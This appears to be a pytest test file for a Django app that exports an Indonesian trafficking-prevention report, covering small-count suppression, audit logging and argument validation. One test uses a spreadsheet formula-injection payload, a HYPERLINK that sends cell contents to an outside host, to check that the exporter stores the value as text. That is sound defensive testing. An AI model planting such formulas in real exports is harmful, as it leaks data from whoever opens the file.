"""The TPPO-prevention report as PDF and XLSX: from the dashboard, the command line, and
for publication with small counts suppressed."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django.utils.dates import MONTHS
from openpyxl import load_workbook
from pypdf import PdfReader

from waspada.applications.models import Applicant
from waspada.core.models import AuditEvent, User
from waspada.domain import periods
from waspada.domain.suppression import CellStatus
from waspada.reports.document import build_document
from waspada.reports.exports import grid, write_xlsx
from waspada.reports.tests.conftest import YEAR, Story

pytestmark = pytest.mark.usefixtures("central_java_regions")


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_a_publication_hides_small_counts_everywhere_they_appear(story: Story) -> None:
    document = build_document(periods.year(YEAR), publication=True, threshold=5)
    assert not any(table.internal for table in document.tables)
    hidden = 0
    shown_by_key: dict[str, set[str]] = {}
    for table, result in zip(document.tables, document.published, strict=True):
        for position, state in result.status.items():
            value = table.table.value(position)
            if 1 <= value < 5 and table.table.printed(position):
                assert state is CellStatus.PRIMARY, (table.key, position)
            hidden += result.hidden(position)
            key = table.keys.get(position)
            # A withheld table prints none of its figures: hiding one there is no choice
            # that the other tables must follow.
            if key is not None and not result.withheld:
                shown_by_key.setdefault(key, set()).add(
                    "hidden" if result.hidden(position) else "shown"
                )
        printed = grid(document, table)
        assert all(
            not isinstance(cell, int) or cell == 0 or cell >= 5
            for row in printed[1:]
            for cell in row[1:]
        ), table.key
    assert hidden > 0  # a small office year always has small cells
    # A figure shared by several tables is hidden in all of them or in none.
    assert all(len(states) == 1 for states in shown_by_key.values())


def test_an_internal_report_keeps_every_count_and_the_internal_tables(story: Story) -> None:
    document = build_document(periods.year(YEAR))
    keys = [table.key for table in document.tables]
    assert "indicators" in keys and "workload" in keys
    assert document.published == []
    summary = grid(document, document.tables[0])
    assert all(isinstance(cell, int) for row in summary[1:] for cell in row[1:])


def test_the_xlsx_has_one_sheet_per_table_in_indonesian(story: Story, tmp_path: Path) -> None:
    document = build_document(periods.year(YEAR), publication=True)
    out = tmp_path / "report.xlsx"
    write_xlsx(document, out)
    workbook = load_workbook(out)
    assert len(workbook.sheetnames) == len(document.tables) + 1  # and the cover sheet
    trend = workbook.worksheets[1 + [t.key for t in document.tables].index("trend")]
    months = [row[0].value for row in trend.iter_rows(min_row=3, max_row=14)]
    with translation.override("id"):
        assert months[0] == f"{MONTHS[1]} {YEAR}"  # Januari
    cover = [row[0].value for row in workbook.worksheets[0].iter_rows()]
    assert document.office in cover


def test_the_dashboard_downloads_the_report_and_audits_it(
    story: Story, login: Callable[..., Client], head_of_office: User
) -> None:
    client = login(head_of_office)
    params = {"period": "year", "year": str(YEAR), "format": "pdf", "publication": "on"}
    response = client.get(reverse("report_download"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "publikasi" in response["Content-Disposition"]
    data = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    text = pdf_text(data)
    assert "Kantor Imigrasi" in text
    assert "<5" in text
    # No applicant is named: not a NIK, not a name.
    for nik, name in Applicant.objects.values_list("nik", "full_name")[:200]:
        assert nik not in text and name not in text
    event = AuditEvent.objects.get(action="reports.exported")
    assert event.actor == head_of_office
    assert event.details["publication"] is True


@pytest.mark.parametrize(
    "params",
    [
        {"period": "year", "year": str(YEAR), "format": "docx"},
        {"period": "month", "year": str(YEAR), "format": "pdf"},
        {
            "period": "year",
            "year": str(YEAR),
            "format": "xlsx",
            "publication": "on",
            "threshold": "2",
        },
    ],
)
def test_a_wrong_download_is_refused_with_the_reason(
    login: Callable[..., Client], supervisor: User, params: dict[str, str]
) -> None:
    response = login(supervisor).get(reverse("report_download"), params)
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()
    assert not AuditEvent.objects.filter(action="reports.exported").exists()


def test_the_command_writes_the_pdf_and_the_xlsx(story: Story, tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("report", year=str(YEAR), format="pdf", out=str(tmp_path / "r.pdf"), stdout=out)
    assert pdf_text((tmp_path / "r.pdf").read_bytes()).count("Kantor Imigrasi") >= 1
    call_command(
        "report",
        year=str(YEAR),
        month="3",
        out=str(tmp_path / "r.xlsx"),
        publication=True,
        threshold="10",
        stdout=out,
    )
    assert load_workbook(tmp_path / "r.xlsx").sheetnames
    assert AuditEvent.objects.filter(action="reports.exported").count() == 2
    assert str(tmp_path / "r.xlsx") in out.getvalue()


def test_the_command_writes_an_empty_year_without_error(
    central_java_regions: None, tmp_path: Path
) -> None:
    call_command(
        "report", year="2031", format="xlsx", out=str(tmp_path / "e.xlsx"), stdout=io.StringIO()
    )
    assert load_workbook(tmp_path / "e.xlsx").sheetnames


@pytest.mark.parametrize(
    ("options", "option"),
    [
        ({"year": "2023", "month": "13"}, "--month"),
        ({"year": "20x3"}, "--year"),
        ({"year": "1850"}, "--year"),
        ({"year": "2023", "quarter": "5"}, "--quarter"),
        ({"year": "2023", "month": "1", "quarter": "1"}, "--quarter"),
        ({"year": "2023", "format": "docx"}, "--format"),
        ({"year": "2023", "threshold": "5"}, "--threshold"),
        ({"year": "2023", "publication": True, "threshold": "1"}, "--threshold"),
        ({}, "--year"),
    ],
)
def test_the_command_refuses_a_wrong_period_or_format_with_exit_code_2(
    tmp_path: Path, options: dict[str, object], option: str
) -> None:
    target = tmp_path / "r.pdf"
    with pytest.raises(CommandError) as error:
        call_command("report", out=str(target), **options)
    assert error.value.returncode == 2
    assert option in str(error.value)
    assert not target.exists()


def test_the_console_command_exits_2_with_a_message_and_no_traceback(tmp_path: Path) -> None:
    script = Path(sys.executable).with_name("waspada")
    result = subprocess.run(
        [
            str(script),
            "report",
            "--year",
            "2023",
            "--month",
            "13",
            "--out",
            str(tmp_path / "x.pdf"),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "DEBUG": "1"},
        check=False,
    )
    assert result.returncode == 2
    assert "--month" in result.stderr
    assert "Traceback" not in result.stderr


def test_an_officer_name_that_starts_like_a_formula_stays_text_in_the_xlsx(
    story: Story, intake_officer: User, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://example.com/?leak="&A1,"Lihat")'
    intake_officer.full_name = name
    intake_officer.save()
    out = tmp_path / "report.xlsx"

    write_xlsx(build_document(periods.year(YEAR), publication=False), out)

    cells = [
        cell
        for sheet in load_workbook(out).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == name
    ]
    assert cells, "the officer is in the workload table"
    assert {cell.data_type for cell in cells} == {"s"}  # text, not a formula
